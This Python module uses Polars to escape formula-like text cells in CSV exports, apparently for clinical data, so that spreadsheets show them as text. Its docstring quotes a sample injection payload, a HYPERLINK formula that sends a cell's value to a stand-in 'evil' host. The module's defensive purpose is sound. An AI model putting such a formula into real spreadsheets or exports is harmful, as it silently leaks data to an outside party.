"""CSV formula-injection ("CSV injection") defence for files opened in spreadsheets.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as
a formula by Excel, LibreOffice and Google Sheets; a stored value such as
``=HYPERLINK("http://evil/?"&A1)`` would run when a clinician opens an export. Following
[OWASPCSV], such cells get a leading single quote, which spreadsheets show as text. Numbers stay
numbers: numeric columns are never touched, and a text cell that is one plain number (``-1.5``,
``+3``, ``-2e-3``) is written unchanged, so negative values read back as numbers. A software
rule, not a clinical number.
"""

from __future__ import annotations

import re
from typing import Final

import polars as pl

__all__ = ["FORMULA_PREFIXES", "escape_cell", "escape_formula_cells"]

#: First characters that make a spreadsheet read a cell as a formula [OWASPCSV].
FORMULA_PREFIXES: Final = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER: Final = r"^[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?$"
_PLAIN_NUMBER_RE: Final = re.compile(_PLAIN_NUMBER)
_FORMULA_START: Final = r"^[=+\-@\t\r]"


def escape_cell(value: str) -> str:
    """One text cell as a spreadsheet will show it as text (see the module docstring)."""
    if value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER_RE.match(value):
        return "'" + value
    return value


def escape_formula_cells(frame: pl.DataFrame) -> pl.DataFrame:
    """The frame with every formula-like text cell escaped; other columns unchanged."""
    exprs = []
    for name, dtype in frame.schema.items():
        if dtype == pl.String:
            col = pl.col(name)
            risky = col.str.contains(_FORMULA_START) & ~col.str.contains(_PLAIN_NUMBER)
            exprs.append(pl.when(risky).then(pl.lit("'") + col).otherwise(col).alias(name))
    return frame.with_columns(exprs) if exprs else frame
